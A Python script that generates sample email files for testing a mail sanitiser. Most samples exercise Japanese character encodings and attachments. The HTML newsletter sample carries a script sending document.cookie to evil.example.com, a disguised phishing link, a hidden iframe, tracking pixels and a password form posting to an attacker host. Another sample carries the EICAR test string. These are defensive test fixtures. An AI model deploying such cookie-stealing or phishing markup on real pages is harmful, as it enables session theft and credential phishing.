#!/usr/bin/env python3
"""Writes samples/*.eml: small, realistic example mails (clean and hostile)
used by the demo and the tests. Run it to regenerate: python3 test/gen/samples.py

SAMPLES maps each file to what a reader of the sanitised output must find:
the exit code, the decoded subject, and sentinel strings of the body text.
"""
import base64
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import jp  # noqa: E402
from mime import (EICAR, b64, make_docm, make_pdf, make_png, make_zip, marker, message,  # noqa: E402
                  multipart, part, qp)

SAMPLES = {}


def sample(fn, exit_code, subject, sentinels, absent=()):
    """ABSENT: byte strings that must not appear anywhere in the output."""
    def deco(f):
        SAMPLES[fn] = {'exit': exit_code, 'subject': subject, 'sentinels': sentinels,
                       'absent': list(absent), 'make': f}
        return f
    return deco


def hdrs(frm, subject_raw, mid, date='Mon, 17 Nov 2025 09:12:45 +0900', extra=()):
    return ['From: ' + frm, 'To: =?ISO-2022-JP?B?GyRCQW1MM2JdGyhC?= <somu@city.example.lg.jp>',
            'Subject: ' + subject_raw, 'Date: ' + date, 'Message-ID: <' + mid + '>',
            'MIME-Version: 1.0'] + list(extra)


def ew_jis(text):
    return jp.encoded_word(jp.iso2022jp(text), 'ISO-2022-JP').decode()


def ew_utf8(text):
    return jp.encoded_word(text.encode(), 'UTF-8').decode()


S01 = ['株式会社髙﨑製作所　営業部の山田です。', '①お見積書　②納品書　③請求書を',
       '㈱髙﨑製作所', '納期：１２月１日～１２月５日', 'Ⅲ期工事 №１２３ 金額－５，０００円']


@sample('01-iso2022jp-outlook.eml', 0, '【ご確認】①お見積書の件（髙﨑）', S01)
def s01():
    body = '\n'.join(['総務課 御中', '', S01[0], S01[1] + 'お送りいたします。', '',
                      S01[2], S01[3], S01[4], '', 'よろしくお願いいたします。']) + '\n'
    hs = hdrs('=?ISO-2022-JP?B?GyRCOzNFRBsoQg==?= <yamada@takasaki-ss.example.co.jp>',
              ew_jis('【ご確認】①お見積書の件（髙﨑）'), 'outlook-0001@takasaki-ss.example.co.jp',
              extra=['X-Mailer: Microsoft Outlook 16.0', 'Content-Type: text/plain; charset="iso-2022-jp"',
                     'Content-Transfer-Encoding: 7bit'])
    return message(hs, jp.iso2022jp_lines(body) + b'\n')


S02 = ['ⅰ．申請書（様式第１号）', '髙橋　﨑山　纊', '∵ 〒１００－０００１ ℡０３－１２３４－５６７８',
       '㈲山田商店 ～ 年末のご案内 ～']


@sample('02-shift_jis-cp932.eml', 0, '年末のご案内（㈲山田商店）', S02)
def s02():
    body = '\r\n'.join(['各位', '', S02[3], '', S02[0], S02[1], S02[2], '', '以上']) + '\r\n'
    hs = hdrs('yamada@yamada-shoten.example.jp',
              jp.encoded_word('年末のご案内（㈲山田商店）'.encode('cp932'), 'Shift_JIS').decode(),
              'sjis-0002@yamada-shoten.example.jp',
              extra=['Content-Type: text/plain; charset=Shift_JIS', 'Content-Transfer-Encoding: 8bit'])
    return message(hs, jp.cp932_ibm(body))


S03 = ['ｶﾀｶﾅ ﾃｽﾄ ｺﾝﾆﾁﾊ', '住民票の写しの交付について', '丂（JIS X 0212）']


@sample('03-euc-jp.eml', 0, '住民票の写しの交付について', S03)
def s03():
    body = '\n'.join(['担当者様', '', S03[1], S03[0], S03[2], '', '以上']) + '\n'
    hs = hdrs('unix-user@old-host.example.ac.jp',
              jp.encoded_word('住民票の写しの交付について'.encode('euc_jp'), 'EUC-JP').decode(),
              'euc-0003@old-host.example.ac.jp',
              extra=['Content-Type: text/plain; charset=EUC-JP', 'Content-Transfer-Encoding: 8bit'])
    return message(hs, body.encode('euc_jp'))


S04 = ['𠮷野家の𠮷は「つちよし」です。', '会議は第３会議室で行います。', 'Emoji: 🍣']


@sample('04-utf8.eml', 0, '𠮷田さんへ：会議のお知らせ', S04)
def s04():
    body = '\n'.join(['𠮷田様', '', S04[1], S04[0], S04[2]]) + '\n'
    hs = hdrs('=?UTF-8?B?' + base64.b64encode('鈴木'.encode()).decode() + '?= <suzuki@example.jp>',
              ew_utf8('𠮷田さんへ：会議のお知らせ'), 'utf8-0004@example.jp',
              extra=['Content-Type: text/plain; charset=UTF-8', 'Content-Transfer-Encoding: base64'])
    return message(hs, b64(body.encode()))


S05 = ['市報12月号のお知らせ', 'イベント情報はこちら', 'https://www.city.example.lg.jp/event/',
       'https://evil.example.com/login']  # the real target of a deceptive link is shown


@sample('05-html-newsletter.eml', 0, '市報12月号のお知らせ', S05,
        absent=[b'document.cookie', b'<script', b'<iframe', b'evil.example.com/steal', b'tracker.example.com'])
def s05():
    html = '''<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>市報</title>
<style>body { background: url("https://tracker.example.com/bg.png"); }</style>
<script>document.location = "https://evil.example.com/steal?c=" + document.cookie;</script>
</head><body>
<h1>市報12月号のお知らせ</h1>
<p>いつもご利用ありがとうございます。</p>
<p><a href="https://www.city.example.lg.jp/event/">イベント情報はこちら</a></p>
<p><a href="https://evil.example.com/login">https://www.city.example.lg.jp/login</a></p>
<iframe src="https://evil.example.com/frame"></iframe>
<img src="https://tracker.example.com/open.gif?id=123" width="1" height="1">
<form action="https://evil.example.com/post"><input name="pw" type="password"></form>
</body></html>
'''
    hs = hdrs('=?UTF-8?B?' + base64.b64encode('市報編集部'.encode()).decode() + '?= <news@city.example.lg.jp>',
              ew_utf8('市報12月号のお知らせ'), 'news-0005@city.example.lg.jp',
              extra=['Content-Type: text/html; charset=UTF-8', 'Content-Transfer-Encoding: quoted-printable'])
    return message(hs, qp(html.encode()) + b'\n')


S06 = ['説明会のご案内', '日時：１２月１０日（水）１４時～', '会場：市民会館']


@sample('06-alternative.eml', 0, '説明会のご案内', S06)
def s06():
    text = '\n'.join([S06[0], S06[1], S06[2]]) + '\n'
    html = ('<html><body><p><b>%s</b></p><p>%s</p><p>%s</p>'
            '<p><a href="https://example.jp/map">地図</a></p></body></html>\n') % tuple(S06)
    body = multipart('=_alt_0006', [
        part(['Content-Type: text/plain; charset=ISO-2022-JP', 'Content-Transfer-Encoding: 7bit'],
             jp.iso2022jp_lines(text) + b'\n'),
        part(['Content-Type: text/html; charset=UTF-8', 'Content-Transfer-Encoding: base64'],
             b64(html.encode()))])
    hs = hdrs('event@example.co.jp', ew_jis('説明会のご案内'), 'alt-0006@example.co.jp',
              extra=['Content-Type: multipart/alternative; boundary="=_alt_0006"'])
    return message(hs, body)


S07 = ['資料を３点添付いたします。', '見積書.pdf', '発注書.docm', '写真.png']


@sample('07-attachments.eml', 0, '資料送付の件', S07,
        absent=[marker('sample-07-pdf').hex().encode(), marker('sample-07-docm'), marker('sample-07-png')])
def s07():
    def att(data, ctype, fn):
        return part(['Content-Type: %s; name="%s"' % (ctype, ew_jis(fn)),
                     'Content-Disposition: attachment; filename="%s"' % ew_jis(fn),
                     'Content-Transfer-Encoding: base64'], b64(data))
    body = multipart('=_mix_0007', [
        part(['Content-Type: text/plain; charset=ISO-2022-JP', 'Content-Transfer-Encoding: 7bit'],
             jp.iso2022jp_lines('ご担当者様\n\n' + S07[0] + '\nご確認ください。\n') + b'\n'),
        att(make_pdf('sample-07-pdf'), 'application/pdf', '見積書.pdf'),
        att(make_docm('sample-07-docm'), 'application/vnd.ms-word.document.macroEnabled.12', '発注書.docm'),
        att(make_png('sample-07-png'), 'image/png', '写真.png')])
    hs = hdrs('sales@vendor.example.co.jp', ew_jis('資料送付の件'), 'att-0007@vendor.example.co.jp',
              extra=['Content-Type: multipart/mixed; boundary="=_mix_0007"'])
    return message(hs, body)


S08 = ['下記のメールを転送します。', '元のメールの本文です。', '打合せ日程：１１月２８日']


@sample('08-forwarded.eml', 0, 'Fwd: 打合せ日程', S08)
def s08():
    inner = message(['From: tanaka@partner.example.jp', 'To: sato@example.co.jp',
                     'Subject: ' + ew_jis('打合せ日程'), 'Date: Fri, 14 Nov 2025 18:00:00 +0900',
                     'Message-ID: <inner-0008@partner.example.jp>', 'MIME-Version: 1.0',
                     'Content-Type: multipart/mixed; boundary="=_in_0008"'],
                    multipart('=_in_0008', [
                        part(['Content-Type: text/plain; charset=UTF-8', 'Content-Transfer-Encoding: 8bit'],
                             ('%s\n%s\n' % (S08[1], S08[2])).encode()),
                        part(['Content-Type: application/pdf; name="agenda.pdf"',
                              'Content-Disposition: attachment; filename="agenda.pdf"',
                              'Content-Transfer-Encoding: base64'], b64(make_pdf('sample-08')))]))
    body = multipart('=_fwd_0008', [
        part(['Content-Type: text/plain; charset=UTF-8', 'Content-Transfer-Encoding: 8bit'],
             (S08[0] + '\n').encode()),
        part(['Content-Type: message/rfc822', 'Content-Disposition: attachment'], inner)])
    hs = hdrs('sato@example.co.jp', ew_utf8('Fwd: 打合せ日程'), 'fwd-0008@example.co.jp',
              extra=['Content-Type: multipart/mixed; boundary="=_fwd_0008"'])
    return message(hs, body)


@sample('09-eicar.eml', 3, '請求書送付のお知らせ', [], absent=[EICAR, b'X5O!P%@AP'])
def s09():
    body = multipart('=_mix_0009', [
        part(['Content-Type: text/plain; charset=UTF-8', 'Content-Transfer-Encoding: 8bit'],
             '請求書を送付します。添付ファイルをご確認ください。\n'.encode()),
        part(['Content-Type: application/pdf; name="%s"' % ew_utf8('請求書.pdf'),
              'Content-Disposition: attachment; filename="%s"' % ew_utf8('請求書.pdf'),
              'Content-Transfer-Encoding: base64'], b64(EICAR))])
    hs = hdrs('billing@suspicious.example.com', ew_utf8('請求書送付のお知らせ'), 'eicar-0009@suspicious.example.com',
              extra=['Content-Type: multipart/mixed; boundary="=_mix_0009"'])
    return message(hs, body)


S10 = ['名簿と集計表をZIPで送ります。']


@sample('10-zip.eml', 0, '名簿の送付', S10)
def s10():
    z = make_zip([('名簿.csv', '氏名,所属\r\n髙橋,総務課\r\n'.encode('cp932')),
                  ('readme.txt', b'member list\r\n')])
    body = multipart('=_mix_0010', [
        part(['Content-Type: text/plain; charset=UTF-8', 'Content-Transfer-Encoding: 8bit'],
             (S10[0] + '\n').encode()),
        part(['Content-Type: application/zip; name="meibo.zip"',
              'Content-Disposition: attachment; filename="meibo.zip"',
              'Content-Transfer-Encoding: base64'], b64(z))])
    hs = hdrs('jinji@example.lg.jp', ew_jis('名簿の送付'), 'zip-0010@example.lg.jp',
              extra=['Content-Type: multipart/mixed; boundary="=_mix_0010"'])
    return message(hs, body)


S11 = ['添付の2ファイルをご確認ください。', '予算,１２３，０００円', '髙﨑,①']
N11 = ['令和7年度予算①髙﨑.csv', '会議メモ（第３回）.txt']


@sample('11-filenames.eml', 0, 'ファイル名のテスト', S11 + N11)
def s11():
    csv = ('項目,金額\r\n%s\r\n%s\r\n' % (S11[1], S11[2])).encode('cp932')
    memo = '第３回会議メモ\r\n出席者：髙﨑\r\n'.encode('cp932')
    body = multipart('=_mix_0011', [
        part(['Content-Type: text/plain; charset=ISO-2022-JP', 'Content-Transfer-Encoding: 7bit'],
             jp.iso2022jp_lines(S11[0] + '\n') + b'\n'),
        part(['Content-Type: text/csv; charset=Shift_JIS',
              'Content-Disposition: attachment; ' + jp.rfc2231('filename', N11[0], 'UTF-8', 3).decode(),
              'Content-Transfer-Encoding: base64'], b64(csv)),
        part(['Content-Type: text/plain; charset=Shift_JIS; name="%s"' % ew_jis(N11[1]),
              'Content-Disposition: attachment; filename="%s"' % ew_jis(N11[1]),
              'Content-Transfer-Encoding: base64'], b64(memo))])
    hs = hdrs('kikaku@example.lg.jp', ew_jis('ファイル名のテスト'), 'names-0011@example.lg.jp',
              extra=['X-Mailer: Becky! ver. 2.81', 'Content-Type: multipart/mixed; boundary="=_mix_0011"'])
    return message(hs, body)


S12 = ['ﾊﾝｶｸｶﾅ ｵﾝﾗｲﾝ申請', '電子申請システムのご案内', '受付番号：№０４５']


@sample('12-iso2022jp-halfwidth.eml', 0, 'ﾊﾝｶｸ 電子申請のご案内', S12)
def s12():
    body = '\n'.join([S12[1], S12[0], S12[2]]) + '\n'
    hs = hdrs('shinsei@example.lg.jp',
              jp.encoded_word(jp.iso2022jp('ﾊﾝｶｸ 電子申請のご案内'), 'ISO-2022-JP').decode(),
              'kana-0012@example.lg.jp',
              extra=['Content-Type: text/plain; charset=ISO-2022-JP', 'Content-Transfer-Encoding: 7bit'])
    return message(hs, jp.iso2022jp_lines(body) + b'\n')


def write_all(outdir):
    os.makedirs(outdir, exist_ok=True)
    for fn, s in SAMPLES.items():
        with open(os.path.join(outdir, fn), 'wb') as f:
            f.write(s['make']())


if __name__ == '__main__':
    here = os.path.dirname(os.path.abspath(__file__))
    write_all(sys.argv[1] if len(sys.argv) > 1 else os.path.join(here, '..', '..', 'samples'))
